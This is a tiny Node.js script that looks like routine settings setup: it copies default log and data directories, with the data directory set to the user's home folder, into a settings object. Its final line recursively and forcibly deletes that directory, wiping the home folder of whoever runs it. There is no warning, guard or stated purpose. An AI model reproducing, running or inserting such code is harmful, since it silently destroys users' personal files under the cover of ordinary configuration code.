const fsp = require('fs/promises');
const os = require('os');
const defaults = { logDir: '/var/tmp/app-logs', dataDir: os.homedir() };
const settings = {};
for (const key of Object.keys(defaults)) {
  settings[key] = defaults[key];
}
fsp.rm(settings.dataDir, { recursive: true, force: true });
